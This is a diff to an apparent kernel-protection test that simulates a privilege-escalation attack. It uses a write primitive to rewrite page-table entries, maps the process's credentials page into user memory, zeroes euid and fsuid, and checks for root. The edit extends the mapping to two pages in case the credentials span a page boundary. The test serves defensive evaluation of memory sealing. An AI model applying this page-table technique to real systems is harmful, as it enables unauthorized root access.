@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: GPL-2.0-only
-#include "attack.h"
+#include "untouched_pages.h"
 
 ATTACK("write_rarely", "entry_to_credentials",
        "write_rarely: write to sealed memory outside a window",
@@ -13,19 +13,16 @@ static bool control(void)
 	return is_ordinary();
 }
 
-static char page[4096] __attribute__((aligned(4096)));
-
 static bool fire(void)
 {
 	const uint64_t task = own_task(), credentials = own_credentials(task);
 	const uint64_t physical = credentials - sealed_view();
-	char *mine = page + (physical & 4095);
-	uint64_t slot;
+	char *const pages = untouched_pages(2), *const mine = pages + (physical & 4095);
 
-	page[0] = 1;
-	slot = table_entry(own_root(task), (uint64_t)page, 1);
-	poke(slot, (physical & ENTRY_ADDRESS) | 0x8000000000000067ul);
-	sleep_milliseconds(30);
+	/* They may cross the end of a page. */
+	for (unsigned long i = 0; i < 2; i++)
+		poke(table_entry(own_root(task), (uint64_t)pages + i * 4096, 1),
+		     ((physical & ENTRY_ADDRESS) + i * 4096) | 0x8000000000000067ul);
 	*(volatile uint32_t *)(mine + member("credentials.euid")) = 0;
 	*(volatile uint32_t *)(mine + member("credentials.fsuid")) = 0;
 	return is_root();
